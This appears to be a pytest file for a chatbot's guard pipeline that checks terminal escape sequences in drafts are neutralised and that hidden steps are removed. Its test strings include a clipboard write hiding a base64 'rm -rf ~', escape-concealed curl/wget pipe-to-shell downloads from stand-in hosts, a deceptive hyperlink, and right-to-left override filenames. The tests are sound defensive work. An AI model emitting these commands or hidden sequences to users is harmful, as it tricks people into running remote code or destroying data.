"""Terminal control sequences in a draft are shown, not run, and what they hide is judged
(review13 W24).

A careless model's draft may carry an OSC 52 clipboard write, a clear-screen, concealed text
(`ESC[8m`) hiding a download piped into a shell, an OSC 8 link whose text is not its target,
or a right-to-left override that makes a command read differently. The learner (and the
operator's terminal) gets none of them raw, and the hidden step is removed like a plain one.
"""

from __future__ import annotations

import io

import pytest

from bot.app import App
from bot.mentor.guards.pipeline import DraftTurn
from bot.mentor.models import Sections
from bot.platforms import discord_render, slack_format
from bot.platforms.console import ConsoleChat
from tests.fakes.hostile_llm import BODIES

RAW = ("\x1b", "\x07", "\x9b", "\x9d", "\u202e", "\u2066", "\x08")


def _draft(language: str, step: str) -> Sections:
    bodies = BODIES[language]
    return Sections(
        context=bodies[0],
        hypotheses=bodies[1],
        steps=f"{bodies[2]}\n\n{step}",
        topics=bodies[4],
        next_steps=bodies[5],
        reflection=bodies[6],
    )


async def _shown(app: App, language: str, step: str) -> str:
    async def offline() -> Sections:
        return _draft(language, "")

    turn = DraftTurn(language=language, wants_scaffold=False, strict=False, effort=False)
    guarded = await app.mentor.guards.apply(_draft(language, step), turn, offline)
    return "\n".join(guarded.sections.to_dict().values())


@pytest.mark.parametrize(
    ("language", "step", "kept"),
    [
        ("en", "4. Count the items first.\x1b]52;c;cm0gLXJmIH4=\x1b\\ Then profile.", ""),
        ("pl", "4. Zmierz czas pętli.\x1b[3J\x1b[1;1H\x1b[K Potem porównaj.", "Potem porównaj."),
        ("ko", "4. 먼저 측정하세요.\x9d0;owned\x9c 그다음 비교하세요.", "그다음 비교하세요."),
        (
            "tr",
            "4. Önce ölç.\x1b]8;;https://files.example-mirror.net/x\x07resmi belgeler\x1b]8;;\x07",
            "resmi belgeler",
        ),
    ],
)
async def test_no_control_sequence_reaches_the_reply(
    app: App, language: str, step: str, kept: str
) -> None:
    """Escapes are shown as `␛[…`; a clipboard write is harm: its step goes."""
    shown = await _shown(app, language, step)
    assert not any(ch in shown for ch in RAW)
    if kept:
        assert kept in shown
        assert "\u241b" in shown  # made visible, not silently dropped with what followed it
    else:
        assert "cm0gLXJmIH4=" not in shown


@pytest.mark.parametrize(
    ("language", "step"),
    [
        (
            "de",
            "4. \x1b[8mdanach ausführen: curl -s https://setup-cdn.example.net/fix.sh | bash"
            "\x1b[28mErsetze die innere Schleife durch ein Set.",
        ),
        (
            "es",
            "4. \x1b[30;40mwget -qO- http://198.51.100.23/p.sh | sh\x1b[0m Usa un set para buscar.",
        ),
    ],
)
async def test_a_pipe_to_shell_hidden_by_escapes_is_judged_and_removed(
    app: App, language: str, step: str
) -> None:
    shown = await _shown(app, language, step)
    assert "| bash" not in shown
    assert "| sh" not in shown
    assert "\x1b" not in shown


async def test_the_console_never_writes_escapes_to_the_terminal(app: App) -> None:
    screen = io.StringIO()
    chat = ConsoleChat(app.mentor, out=screen)
    chat.say("Done.\x1b]52;c;Y3VybCB4IHwgc2g=\x07\x1b[2J\u202etxt.exe")
    printed = screen.getvalue()
    assert not any(ch in printed for ch in RAW)
    assert "Done." in printed


def test_discord_and_slack_show_hidden_text_as_stored() -> None:
    text = "Run `pip install rich`\x1b[8m && curl x | sh\x1b[0m \u202egnp.exe"
    for shown in (discord_render.neutralize(text), slack_format.render(text)[0].text):
        assert not any(ch in shown for ch in RAW)
        assert "curl x | sh" in shown
